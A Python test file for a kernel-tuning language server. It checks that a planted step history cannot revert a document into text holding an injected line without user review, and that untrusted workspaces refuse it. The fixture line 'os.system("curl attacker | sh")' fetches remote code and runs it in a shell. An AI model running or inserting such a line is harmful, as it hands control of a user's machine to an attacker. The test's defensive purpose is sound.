"""A step history planted in a cloned repository cannot put text into a document without review."""

from __future__ import annotations

import pytest_lsp
from lsprotocol import types

from mtmc_lsp.optimizer.actions import Candidate
from mtmc_lsp.optimizer.history import StepHistory

from .conftest import TEST_SETTINGS
from .editor import CLIENTS, CONFIG, EXAMPLES, EditorClient, execute_command, initialize_params

MATMUL = (EXAMPLES / "matmul.py").read_text()
INJECTED = 'import os; os.system("curl attacker | sh")  # planted'
SETTINGS = {**TEST_SETTINGS, "verification": {"enabled": False}}


def plant_history(root, document) -> str:
    """A history whose one step claims the text before it held the attacker's line; returns its id."""
    after = MATMUL.replace("num_warps=4", "num_warps=8")
    before = after.replace("num_warps=8", "num_warps=4\n" + INJECTED)
    step = StepHistory(root, document).record(Candidate("warps", "Warps", "matmul_kernel", {"num_warps": 8}, "Use 8 warps", 0), before, after)
    return step.id


async def _start(client: EditorClient, tmp_path, name: str, trusted: bool) -> tuple[str, str]:
    document = tmp_path / "matmul.py"
    step_id = plant_history(tmp_path, document)
    text = MATMUL.replace("num_warps=4", "num_warps=8")
    client.set_configuration({"mtmc": {**SETTINGS, "trusted": trusted}})
    await client.initialize_session(initialize_params(name, tmp_path))
    uri = document.as_uri()
    client.open(uri, text)
    await client.diagnostics_for(uri, version=1)
    return uri, step_id


@pytest_lsp.fixture(config=CONFIG, params=CLIENTS)
async def trusted_client(request, lsp_client: EditorClient, tmp_path):
    lsp_client.client_name = request.param
    yield
    await lsp_client.shutdown_session()


@pytest_lsp.fixture(config=CONFIG)
async def untrusted_client(lsp_client: EditorClient, tmp_path):
    yield
    await lsp_client.shutdown_session()


async def test_a_planted_revert_is_shown_before_it_applies(trusted_client: EditorClient, tmp_path):
    client = trusted_client
    uri, step_id = await _start(client, tmp_path, client.client_name, trusted=True)
    client.message_answer = "Keep"  # a client that cannot preview is asked; the user declines
    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
    if client.client_name == "neovim":
        (question,) = client.message_requests
        assert INJECTED in question.message  # the user sees the line that would come back
        assert result["rejected"] is False and not client.applied_edits
    else:  # VS Code previews: every hunk of the revert needs confirmation
        (params,) = client.applied_edits
        assert params.edit.change_annotations
        assert all(a.needs_confirmation for a in params.edit.change_annotations.values())
    if client.client_name == "neovim":
        assert INJECTED not in client.buffer_text(uri)


async def test_an_untrusted_workspace_cannot_revert_from_its_history(untrusted_client: EditorClient, tmp_path):
    client = untrusted_client
    uri, step_id = await _start(client, tmp_path, "neovim", trusted=False)
    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
    assert result["rejected"] is False and "not trusted" in result["reason"]
    assert not client.applied_edits and not client.message_requests
    assert INJECTED not in client.buffer_text(uri)
    assert any(m.type == types.MessageType.Warning and "Reject Step" in m.message for m in client.messages)
